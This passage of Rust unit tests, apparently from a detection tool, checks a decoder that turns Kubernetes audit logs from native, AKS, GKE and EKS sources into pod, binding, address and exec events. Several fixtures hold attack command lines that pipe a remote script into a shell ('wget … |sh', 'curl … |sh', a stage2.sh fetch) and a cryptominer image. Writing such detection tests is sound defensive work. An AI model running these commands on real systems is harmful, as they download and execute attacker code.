                {"name":"nginx","image":"nginx:1.28","command":["/docker-entrypoint.sh"],"args":["nginx","-g","daemon off;"]},
                {"name":"args-only","image":"nginx:1.28","args":["nginx-debug"]},
                {"name":"odd","image":"nginx:1.28","command":"not a list","args":[1,2]}]}}"#,
        ));
        let EventKind::PodCreate(p) = e.kind else {
            panic!()
        };
        let c = &p.containers;
        assert_eq!(c.len(), 3);
        assert_eq!(c[0].command, ["/docker-entrypoint.sh"]);
        assert_eq!(c[0].args, ["nginx", "-g", "daemon off;"]);
        assert!(c[1].command.is_empty());
        assert_eq!(c[1].args, ["nginx-debug"]);
        // Malformed lists cost the list, not the pod.
        assert!(c[2].command.is_empty() && c[2].args.is_empty());
    }

    #[test]
    fn generate_name_without_response_is_a_marked_prefix() {
        let e = one(&rec(
            r#""level":"Request","stage":"ResponseComplete","verb":"create",
            "objectRef":{"resource":"pods","namespace":"kube-system"},"responseStatus":{"code":201},
            "requestObject":{"metadata":{"generateName":"ds-agent-"},"spec":{"nodeName":"n1","containers":[{"name":"a","image":"evil/agent"}]}}"#,
        ));
        let EventKind::PodCreate(p) = e.kind else {
            panic!()
        };
        assert_eq!(p.pod, "ds-agent-*");
        assert_eq!(p.namespace, "kube-system");
        assert_eq!(p.node.as_deref(), Some("n1"));
        assert_eq!(
            p.containers[0].image.to_string(),
            "docker.io/evil/agent:latest"
        );
        // Unstated and no response: the API server's default for an untagged image.
        assert_eq!(p.containers[0].pull_policy.as_deref(), Some("Always"));
    }

    #[test]
    fn metadata_level_failed_and_received_stages_emit_nothing() {
        let metadata = rec(
            r#""level":"Metadata","stage":"ResponseComplete","verb":"create","objectRef":{"resource":"pods","namespace":"a","name":"p"},"responseStatus":{"code":201}"#,
        );
        assert!(decode(&metadata).is_empty());
        let body = r#""requestObject":{"metadata":{"name":"p"},"spec":{"containers":[{"name":"c","image":"x"}]}},"verb":"create","objectRef":{"resource":"pods","namespace":"a","name":"p"}"#;
        assert_eq!(
            decode(&rec(&format!(
                r#""stage":"ResponseComplete","responseStatus":{{"code":201}},{body}"#
            )))
            .len(),
            1
        );
        assert!(decode(&rec(&format!(
            r#""stage":"ResponseComplete","responseStatus":{{"code":403}},{body}"#
        )))
        .is_empty());
        assert!(decode(&rec(&format!(
            r#""stage":"ResponseComplete","responseStatus":{{"code":409}},{body}"#
        )))
        .is_empty());
        assert!(decode(&rec(&format!(r#""stage":"RequestReceived",{body}"#))).is_empty());
        assert!(decode(&rec(&format!(r#""stage":"Panic",{body}"#))).is_empty());
        // No code yet (e.g. a webhook backend without it) is not a failure.
        assert_eq!(
            decode(&rec(&format!(r#""stage":"ResponseComplete",{body}"#))).len(),
            1
        );
        // `metrics.k8s.io` pods are not pods.
        let metrics = body.replace(
            r#""resource":"pods""#,
            r#""resource":"pods","apiGroup":"metrics.k8s.io""#,
        );
        assert!(decode(&rec(&format!(r#""stage":"ResponseComplete",{metrics}"#))).is_empty());
    }

    #[test]
    fn a_pod_create_whose_request_is_not_a_pod_is_an_error() {
        let mut out = Vec::new();
        let r = decode_json(
            &rec(
                r#""stage":"ResponseComplete","verb":"create","objectRef":{"resource":"pods","namespace":"a"},"requestObject":{"spec":{"containers":"x"}}"#,
            ),
            &ctx(),
            &mut out,
        );
        assert!(
            matches!(r, Err(DecodeError::Invalid(m)) if m.starts_with("requestObject is not a Pod"))
        );
    }

    #[test]
    fn exec_stages_share_one_key_and_the_command_is_url_decoded() {
        let uri = "/api/v1/namespaces/prod/pods/api-0/exec?command=%2Fbin%2Fsh&command=-c&command=wget+-qO-+http%3A%2F%2F198.51.100.4%2Fs%7Csh&container=api&container=other&stdin=true&tty=true&bad=%zz";
        let started = rec(&format!(
            r#""level":"Metadata","stage":"ResponseStarted","verb":"create","requestURI":"{uri}","objectRef":{{"resource":"pods","namespace":"prod","name":"api-0","subresource":"exec"}},"responseStatus":{{"code":101}}"#
        ));
        let complete = started.replace("ResponseStarted", "ResponseComplete");
        let a = one(&started);
        let b = one(&complete);
        assert_eq!(a.dedupe, b.dedupe);
        assert_eq!(a.dedupe.as_deref(), Some("k8s-audit:a-1"));
        let EventKind::Process(p) = a.kind else {
            panic!()
        };
        assert_eq!(&*p.exe, "/bin/sh");
        assert_eq!(p.cmdline, "/bin/sh -c wget -qO- http://198.51.100.4/s|sh");
        assert_eq!(p.user.as_deref(), Some("alice"));
        // Never the container's own start-up, whatever its command line.
        assert!(p.lineage.exec && !p.lineage.is_startup());
        let Placement::Container(c) = p.placement else {
            panic!()
        };
        assert_eq!(c.name.as_deref(), Some("api"));
        assert_eq!(c.pod.as_deref(), Some("api-0"));
        assert_eq!(c.namespace.as_deref(), Some("prod"));
        assert_eq!(c.id, None);
        // WebSocket exec is audited as `get`.
        assert_eq!(
            decode(&started.replace(r#""verb":"create""#, r#""verb":"get""#)).len(),
            1
        );
        // attach has no command.
        let attach = started
            .replace("exec?command=%2Fbin%2Fsh&command=-c", "attach?")
            .replace(r#""exec""#, r#""attach""#);
        assert!(decode(&attach).is_empty());
    }

    #[test]
    fn url_decoding_keeps_malformed_escapes() {
        assert_eq!(url_decode("a%20b+c%2"), "a b c%2");
        assert_eq!(url_decode("%zz%41"), "%zzA");
        assert_eq!(url_decode("%E2%9C%93"), "✓");
    }

    #[test]
    fn bindings_name_the_node() {
        let e = one(&rec(
            r#""stage":"ResponseComplete","verb":"create","objectRef":{"resource":"pods","namespace":"web","name":"front-1","subresource":"binding"},"responseStatus":{"code":201},
            "requestObject":{"kind":"Binding","metadata":{"name":"front-1"},"target":{"kind":"Node","name":"worker-9"}}"#,
        ));
        assert_eq!(
            e.kind,
            EventKind::PodBinding(PodBinding {
                namespace: "web".into(),
                pod: "front-1".into(),
                node: "worker-9".into()
            })
        );
        // The legacy `bindings` resource names the pod only in the Binding.
        let e = one(&rec(
            r#""stage":"ResponseComplete","verb":"create","objectRef":{"resource":"bindings","namespace":"web"},
            "requestObject":{"kind":"Binding","metadata":{"name":"front-2","namespace":"web"},"target":{"name":"worker-3"}}"#,
        ));
        let EventKind::PodBinding(b) = e.kind else {
            panic!()
        };
        assert_eq!((b.pod.as_str(), b.node.as_str()), ("front-2", "worker-3"));
        // At Metadata level there is no target.
        assert!(decode(&rec(
            r#""stage":"ResponseComplete","verb":"create","objectRef":{"resource":"pods","namespace":"web","name":"f","subresource":"binding"}"#
        ))
        .is_empty());
        let mut out = Vec::new();
        assert_eq!(
            decode_json(
                &rec(
                    r#""stage":"ResponseComplete","verb":"create","objectRef":{"resource":"pods","namespace":"w","name":"f","subresource":"binding"},"requestObject":{"target":{}}"#
                ),
                &ctx(),
                &mut out
            ),
            Err(DecodeError::Missing("requestObject.target.name"))
        );
    }

    #[test]
    fn ephemeral_containers_from_merge_patch_json_patch_and_update() {
        let head = r#""stage":"ResponseComplete","objectRef":{"resource":"pods","namespace":"prod","name":"api-0","subresource":"ephemeralcontainers"},"responseStatus":{"code":200},"#;
        let response = r#""responseObject":{"metadata":{"name":"api-0"},"spec":{"nodeName":"worker-4","containers":[{"name":"api","image":"api:1"}],
            "ephemeralContainers":[{"name":"old","image":"busybox"},{"name":"debugger-x1","image":"nicolaka/netshoot","imagePullPolicy":"Always"}]}}"#;
        // kubectl debug: a strategic-merge patch naming only the new container.
        let e = one(&rec(&format!(
            r#"{head}"verb":"patch","requestObject":{{"spec":{{"ephemeralContainers":[{{"name":"debugger-x1","image":"nicolaka/netshoot"}}]}}}},{response}"#
        )));
        let EventKind::PodCreate(p) = e.kind else {
            panic!()
        };
        assert_eq!(p.pod, "api-0");
        assert_eq!(p.node.as_deref(), Some("worker-4"));
        assert_eq!(p.containers.len(), 1);
        let c = &p.containers[0];
        assert_eq!(
            (c.name.as_str(), c.kind),
            ("debugger-x1", PodContainerKind::Ephemeral)
        );
        assert_eq!(c.image.to_string(), "docker.io/nicolaka/netshoot:latest");
        assert_eq!(c.pull_policy.as_deref(), Some("Always"));
        // RFC 6902 patch adding one container.
        let e = one(&rec(&format!(
            r#"{head}"verb":"patch","requestObject":[{{"op":"test","path":"/metadata/name","value":"api-0"}},{{"op":"add","path":"/spec/ephemeralContainers/-","value":{{"name":"dbg","image":"alpine:3.20"}}}}]"#
        )));
        let EventKind::PodCreate(p) = e.kind else {
            panic!()
        };
        assert_eq!(
            p.containers
                .iter()
                .map(|c| c.name.as_str())
                .collect::<Vec<_>>(),
            ["dbg"]
        );
        // Tagged and unstated: `IfNotPresent`, as the API server defaults it.
        assert_eq!(p.containers[0].pull_policy.as_deref(), Some("IfNotPresent"));
        assert_eq!(p.node, None);
        // A whole-list JSON patch.
        let e = one(&rec(&format!(
            r#"{head}"verb":"patch","requestObject":[{{"op":"replace","path":"/spec/ephemeralContainers","value":[{{"name":"a","image":"a"}},{{"name":"b","image":"b"}}]}}]"#
        )));
        let EventKind::PodCreate(p) = e.kind else {
            panic!()
        };
        assert_eq!(p.containers.len(), 2);
        // Update logged at Metadata level with only a response: all ephemeral containers.
        let e = one(&rec(&format!(r#"{head}"verb":"update",{response}"#)));
        let EventKind::PodCreate(p) = e.kind else {
            panic!()
        };
        assert_eq!(p.containers.len(), 2);
        // Nothing logged: nothing known.
        assert!(decode(&rec(&format!(r#"{head}"verb":"patch""#))).is_empty());
    }

    #[test]
    fn pod_status_addresses() {
        let e = one(&rec(
            r#""stage":"ResponseComplete","verb":"patch","objectRef":{"resource":"pods","namespace":"prod","name":"api-0","subresource":"status"},"responseStatus":{"code":200},
            "requestObject":{"status":{"$setElementOrder/conditions":[{"type":"Ready"}],"conditions":[{"type":"Ready","status":"True"}],"podIP":"10.1.2.3","podIPs":[{"ip":"10.1.2.3"},{"ip":"fd00::3"}]}},
            "responseObject":{"metadata":{"name":"api-0","namespace":"prod"},"spec":{"nodeName":"worker-4"},"status":{"podIP":"10.1.2.3","containerStatuses":[{"name":"api","containerID":"containerd://abc","imageID":"docker.io/library/api@sha256:00"}]}}"#,
        ));
        let EventKind::ContainerAddress(a) = e.kind else {
            panic!()
        };
        assert_eq!(
            a.ips,
            [
                "10.1.2.3".parse::<IpAddr>().unwrap(),
                "fd00::3".parse().unwrap()
            ]
        );
        assert_eq!(a.container.host.as_deref(), Some("worker-4"));
        assert_eq!(a.container.pod.as_deref(), Some("api-0"));
        assert_eq!(a.container.namespace.as_deref(), Some("prod"));
        // A status update without addresses (readiness flapping) says nothing.
        assert!(decode(&rec(
            r#""stage":"ResponseComplete","verb":"patch","objectRef":{"resource":"pods","namespace":"p","name":"a","subresource":"status"},"requestObject":{"status":{"podIP":null,"conditions":[]}}"#
        ))
        .is_empty());
        let mut out = Vec::new();
        let r = decode_json(
            &rec(
                r#""stage":"ResponseComplete","verb":"update","objectRef":{"resource":"pods","namespace":"p","name":"a","subresource":"status"},"requestObject":{"status":{"podIP":"10.0.0.300"}}"#,
            ),
            &ctx(),
            &mut out,
        );
        assert!(matches!(r, Err(DecodeError::Invalid(m)) if m.contains("10.0.0.300")));
    }

    #[test]
    fn event_time_fallbacks() {
        let body = r#""auditID":"x","stage":"ResponseComplete","verb":"get","objectRef":{"resource":"pods"}"#;
        let mut out = Vec::new();
        decode_json(
            &format!(r#"{{{body},"requestReceivedTimestamp":"2025-01-01T00:00:01.5Z"}}"#),
            &ctx(),
            &mut out,
        )
        .unwrap();
        // v1beta1 `timestamp` only.
        decode_json(&format!(r#"{{{body},"apiVersion":"audit.k8s.io/v1beta1","timestamp":"2018-10-25T14:09:12Z"}}"#), &ctx(), &mut out).unwrap();
        assert!(out.is_empty());
        assert_eq!(
            decode_json(&format!("{{{body}}}"), &ctx(), &mut out),
            Err(DecodeError::Missing("stageTimestamp"))
        );
        assert!(matches!(
            decode_json(
                &format!(r#"{{{body},"stageTimestamp":"yesterday"}}"#),
                &ctx(),
                &mut out
            ),
            Err(DecodeError::Time(_))
        ));
        // stageTimestamp wins over requestReceivedTimestamp.
        let e = one(
            r#"{"auditID":"x","stage":"ResponseComplete","verb":"create","objectRef":{"resource":"pods","namespace":"a","name":"p"},"requestObject":{"spec":{"containers":[{"name":"c","image":"x"}]}},"requestReceivedTimestamp":"2025-01-01T00:00:01Z","stageTimestamp":"2025-01-01T00:00:02Z"}"#,
        );
        assert_eq!(e.time, Ts::from_secs(1_735_689_602).unwrap());
    }

    #[test]
    fn other_formats_fail() {
        let mut out = Vec::new();
        assert_eq!(
            decode_json(
                r#"{"Type":"container","Action":"start","Actor":{"ID":"x"},"timeNano":1}"#,
                &ctx(),
                &mut out
            ),
            Err(DecodeError::Missing("auditID"))
        );
        assert!(matches!(
            decode_json(
                r#"{"kind":"Event","apiVersion":"v1","auditID":"1","stage":"x","verb":"get","stageTimestamp":"2025-01-01T00:00:00Z"}"#,
                &ctx(),
                &mut out
            ),
            Err(DecodeError::Invalid(_))
        ));
        // An Azure record whose properties.log is not an audit event.
        assert!(matches!(
            decode_json(r#"{"operationName":"x","resourceId":"y","properties":{"log":"I0101 started"}}"#, &ctx(), &mut out),
            Err(DecodeError::Invalid(m)) if m.starts_with("properties.log")
        ));
    }

    #[test]
    fn aks_wrapper_decodes_the_inner_event() {
        let inner = rec(
            r#""stage":"ResponseComplete","verb":"create","objectRef":{"resource":"pods","namespace":"a","name":"p"},"requestObject":{"spec":{"containers":[{"name":"c","image":"x:1"}]}}"#,
        );
        let wrapper = format!(
            r#"{{"category":"kube-audit","properties":{{"log":{},"stream":"stdout"}},"time":"2025-01-01T00:00:00Z"}}"#,
            serde_json::to_string(&inner).unwrap()
        );
        let e = one(&wrapper);
        assert_eq!(e.dedupe.as_deref(), Some("k8s-audit:a-1"));
        let EventKind::PodCreate(p) = e.kind else {
            panic!()
        };
        assert_eq!(p.containers[0].image_raw, "x:1");
    }

    /// A pretty-printed webhook batch: the stream unwraps `EventList` and keeps lines.
    #[test]
    fn webhook_event_list_through_the_stream() {
        let (ev, stats) = stream(&fixture("webhook-eventlist.json"));
        assert_eq!(stats.formats[&Format::K8sAudit].records, 4);
        assert!(stats.skipped.is_empty(), "{:?}", stats.skipped);
        assert_eq!(ev.len(), 3);
        assert_eq!(
            ev.iter().map(|e| e.source.line).collect::<Vec<_>>(),
            [20, 42, 57]
        );
        let EventKind::PodCreate(p) = &ev[0].kind else {
            panic!()
        };
        assert_eq!(
            (p.namespace.as_str(), p.pod.as_str()),
            ("shop", "cart-7d9f8b6c5-x2kqp")
        );
        assert_eq!(p.containers[0].pull_policy.as_deref(), Some("IfNotPresent"));
        assert_eq!(
            ev[0].time,
            Ts::parse_rfc3339("2025-03-02T10:15:00.112345Z").unwrap()
        );
        let EventKind::PodBinding(b) = &ev[1].kind else {
            panic!()
        };
        assert_eq!(b.node, "worker-2");
        let EventKind::ContainerAddress(a) = &ev[2].kind else {
            panic!()
        };
        assert_eq!(a.ips.len(), 2);
        assert_eq!(a.container.host, None);
    }

    /// AKS diagnostic logs as Event Hub delivers them: `{"records":[…]}` of wrappers.
    #[test]
    fn aks_records_through_the_stream() {
        let (ev, stats) = stream(&fixture("aks-eventhub-records.json"));
        assert_eq!(stats.formats[&Format::K8sAudit].records, 2);
        assert!(!stats.formats.contains_key(&Format::AzureActivity));
        assert_eq!(ev.len(), 2);
        assert_eq!(ev[0].source.line, 3);
        let EventKind::PodCreate(p) = &ev[0].kind else {
            panic!()
        };
        assert_eq!(p.pod, "node-helper");
        assert_eq!(p.node.as_deref(), Some("aks-nodepool1-12345678-vmss000001"));
        assert_eq!(p.actor.as_deref(), Some("jane@example.com"));
        assert_eq!(
            p.containers[0].image.to_string(),
            "docker.io/xmrig/xmrig:latest"
        );
        let EventKind::Process(x) = &ev[1].kind else {
            panic!()
        };
        assert_eq!(x.cmdline, "sh -c curl -s http://198.51.100.9/x|sh");
        assert_eq!(
            ev[1].dedupe.as_deref(),
            Some("k8s-audit:d2b5f4a3-8c7e-4f60-ab9c-1d2e3f4a5b6c")
        );
    }

    /// Falco's v1beta1 minikube captures and the AKS-wrapped v1 sample.
    #[test]
    fn gke_cloud_logging_entries_decode_as_the_audit_events_they_were() {
        let (ev, st) = stream(&fixture("gke-cloud-logging.jsonl"));
        assert!(st.skipped.is_empty(), "{:?}", st.skipped);
        // Every entry is Kubernetes audit, none is taken as a Cloud Audit Log of
        // Compute Engine; the read and the refused exec give nothing.
        assert_eq!(st.formats[&Format::K8sAudit].records, 6);
        assert!(!st.formats.contains_key(&Format::GcpAudit));
        assert_eq!(ev.len(), 4, "{ev:?}");
        let lines: Vec<u64> = ev.iter().map(|e| e.source.line).collect();
        assert_eq!(lines, [1, 2, 3, 4]);
        assert!(ev.iter().all(|e| e.source.format == Format::K8sAudit));
        assert_eq!(
            ev[0].dedupe.as_deref(),
            Some("k8s-audit:6b1c1a53-2f0e-4b7a-9a61-0d5e3c1f7a01")
        );
        assert_eq!(
            ev[0].time,
            Ts::parse_rfc3339("2026-11-20T09:00:00.1Z").unwrap()
        );
        let EventKind::PodCreate(p) = &ev[0].kind else {
            panic!("{:?}", ev[0].kind)
        };
        assert_eq!(
            (p.namespace.as_str(), p.pod.as_str()),
            ("default", "report-gen-7d9f8-x2kqp")
        );
        assert_eq!(
            p.actor.as_deref(),
            Some("system:serviceaccount:kube-system:replicaset-controller")
        );
        assert_eq!(p.containers.len(), 1);
        assert_eq!(
            p.containers[0].image.to_string(),
            "docker.io/kitty0x/toolbox:latest"
        );
        assert_eq!(p.containers[0].pull_policy.as_deref(), Some("Always"));
        let EventKind::PodBinding(b) = &ev[1].kind else {
            panic!("{:?}", ev[1].kind)
        };
        assert_eq!(
            (b.namespace.as_str(), b.pod.as_str(), b.node.as_str()),
            (
                "default",
                "report-gen-7d9f8-x2kqp",
                "gke-prod-1-default-pool-3f2a1b0c-x7k2"
            )
        );
        let EventKind::ContainerAddress(a) = &ev[2].kind else {
            panic!("{:?}", ev[2].kind)
        };
        assert_eq!(a.ips, ["10.52.1.23".parse::<IpAddr>().unwrap()]);
        assert_eq!(a.container.pod.as_deref(), Some("report-gen-7d9f8-x2kqp"));
        assert_eq!(
            a.container.host.as_deref(),
            Some("gke-prod-1-default-pool-3f2a1b0c-x7k2")
        );
        let EventKind::Process(x) = &ev[3].kind else {
            panic!("{:?}", ev[3].kind)
        };
        assert_eq!(
            (&*x.exe, x.cmdline.as_str()),
            ("curl", "curl -fsSL http://198.51.100.23/stage2.sh")
        );
        assert_eq!(x.user.as_deref(), Some("dev@acme.example"));
        let Placement::Container(c) = &x.placement else {
            panic!()
        };
        assert_eq!(
            (c.name.as_deref(), c.pod.as_deref(), c.namespace.as_deref()),
            (
                Some("worker"),
                Some("report-gen-7d9f8-x2kqp"),
                Some("default")
            )
        );
    }

    #[test]
    fn gke_entries_that_do_not_hold_an_audit_event_are_errors() {
        let entry = |payload: &str| {
            format!(
                r#"{{"insertId":"i-1","operation":{{"id":"i-1"}},"protoPayload":{{{payload}}},"timestamp":"2026-11-20T09:00:00Z"}}"#
            )
        };
        let err = |payload: &str| {
            let mut out = Vec::new();
            let r = decode_json(&entry(payload), &ctx(), &mut out);
            assert!(out.is_empty());
            r.unwrap_err()
        };
        assert!(matches!(
            err(r#""serviceName":"compute.googleapis.com","methodName":"v1.compute.instances.insert""#),
            DecodeError::Invalid(m) if m.contains("not k8s.io")
        ));
        assert_eq!(
            err(r#""methodName":"io.k8s.core.v1.pods.create""#),
            DecodeError::Missing("protoPayload.serviceName")
        );
        assert!(matches!(
            err(r#""serviceName":"k8s.io","methodName":"pods.create","resourceName":"core/v1/namespaces/a/pods/p""#),
            DecodeError::Invalid(m) if m.contains("methodName")
        ));
        // A pod create whose request is not a pod, as in a native audit event.
        assert!(matches!(
            err(r#""serviceName":"k8s.io","methodName":"io.k8s.core.v1.pods.create","resourceName":"core/v1/namespaces/a/pods/p","request":[1]"#),
            DecodeError::Invalid(m) if m.contains("not a Pod")
        ));
        // An exec without options names no command: nothing, as natively.
        let mut out = Vec::new();
        decode_json(
            &entry(r#""serviceName":"k8s.io","methodName":"io.k8s.core.v1.pods.exec.create","resourceName":"core/v1/namespaces/a/pods/p/exec","request":{"command":"id"}"#),
            &ctx(),
            &mut out,
        )
        .unwrap();
        let EventKind::Process(x) = &out[0].kind else {
            panic!()
        };
        assert_eq!(x.cmdline, "id");
        assert_eq!(out[0].dedupe.as_deref(), Some("k8s-audit:i-1"));
    }

    #[test]
    fn eks_audit_through_cloudwatch_logs() {
        let (ev, st) = stream(&fixture("eks-cloudwatch.json"));
        assert!(st.skipped.is_empty(), "{:?}", st.skipped);
        // Two log events in the batch; the health check holds none.
        assert_eq!(st.formats[&Format::K8sAudit].records, 2);
        assert_eq!(ev.len(), 2);
        assert!(ev.iter().all(|e| e.source.line == 1));
        let EventKind::PodCreate(p) = &ev[0].kind else {
            panic!("{:?}", ev[0].kind)
        };
        assert_eq!(p.pod, "report-gen-7d9f8-x2kqp");
        let EventKind::PodBinding(b) = &ev[1].kind else {
            panic!("{:?}", ev[1].kind)
        };
        assert_eq!(b.node, "ip-10-0-3-17.eu-west-1.compute.internal");
        let (ev, st) = stream(&fixture("eks-exported.jsonl"));
        assert!(st.skipped.is_empty(), "{:?}", st.skipped);
        assert_eq!(st.formats[&Format::K8sAudit].records, 1);
        let EventKind::Process(x) = &ev[0].kind else {
            panic!("{:?}", ev[0].kind)
        };
        assert_eq!(x.cmdline, "curl -fsSL http://198.51.100.23/stage2.sh");
        assert_eq!(
            ev[0].dedupe.as_deref(),
            Some("k8s-audit:7d8c9b0a-1928-4374-8655-443322110099")
        );
        // A message that is not an audit event is a located skip of k8s-audit.
        let mut out = Vec::new();
        let bad = r#"{"timestamp":1,"message":"{\"auditID\":1}"}"#;
        assert!(matches!(
            decode_json(bad, &ctx(), &mut out),
            Err(DecodeError::Invalid(m)) if m.starts_with("message is not an audit event")
        ));
    }

    #[test]
    fn shared_samples() {
        let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/samples/k8s-audit");
        if !dir.is_dir() {
            eprintln!("skipped: shared samples not present at {}", dir.display());
            return;
        }
        let mut total = 0;
        let mut by_file = std::collections::BTreeMap::new();
        for name in [
            "attach_pod.json",
            "create_deployment.json",
            "create_nginx_pod_privileged.json",
            "create_nginx_pod_unprivileged.json",
            "create_pod_kube_system_namespace.json",
            "exec_pod.json",
            "aks/test-kube-audit.log",
        ] {
            let (ev, stats) = stream(&dir.join(name));
            assert!(stats.skipped.is_empty(), "{name}: {:?}", stats.skipped);
            assert_eq!(stats.formats[&Format::K8sAudit].records, 1, "{name}");
            total += ev.len();
            by_file.insert(name, ev);
        }
        // attach, the deployment and the AKS lease update are of no interest.
        assert_eq!(total, 4);
        assert!(by_file["attach_pod.json"].is_empty());
        assert!(by_file["aks/test-kube-audit.log"].is_empty());
        let e = &by_file["create_nginx_pod_privileged.json"][0];
        assert_eq!(
            e.time,
            Ts::parse_rfc3339("2018-10-25T14:09:12.581541Z").unwrap()
        );
        assert_eq!(
            e.dedupe.as_deref(),
            Some("k8s-audit:a362d22b-db3c-4590-9505-23782f12925f")
        );
        let EventKind::PodCreate(p) = &e.kind else {
            panic!()
        };
        assert_eq!(p.pod, "nginx-deployment-5cdcc99dbf-rgw6z");
        assert_eq!(p.namespace, "default");
        assert_eq!(
            p.actor.as_deref(),
            Some("system:serviceaccount:kube-system:replicaset-controller")
        );
        assert_eq!(p.containers.len(), 1);
        assert_eq!(
            p.containers[0].image.to_string(),
            "docker.io/library/nginx:latest"
        );
        assert_eq!(p.containers[0].pull_policy.as_deref(), Some("Always"));
        let EventKind::PodCreate(p) = &by_file["create_pod_kube_system_namespace.json"][0].kind
        else {
            panic!()
        };
        assert_eq!(
            (p.namespace.as_str(), p.pod.as_str()),
            ("kube-system", "nginx-deployment-7998647bdf-7q2sp")
        );
        let EventKind::PodCreate(p) = &by_file["create_nginx_pod_unprivileged.json"][0].kind else {
            panic!()
        };
        assert_eq!(p.pod, "nginx-deployment-78f5d695bd-nxqz5");
        let e = &by_file["exec_pod.json"][0];
        assert_eq!(
            e.time,
            Ts::parse_rfc3339("2018-10-26T13:38:34.902914Z").unwrap()
        );
        let EventKind::Process(x) = &e.kind else {
            panic!()
        };
        assert_eq!((&*x.exe, x.cmdline.as_str()), ("bash", "bash"));
        assert_eq!(x.user.as_deref(), Some("minikube-user"));
        let Placement::Container(c) = &x.placement else {
            panic!()
        };
        assert_eq!(c.name.as_deref(), Some("nginx1"));
        assert_eq!(c.pod.as_deref(), Some("nginx-deployment-7998647bdf-phvq7"));
    }
}
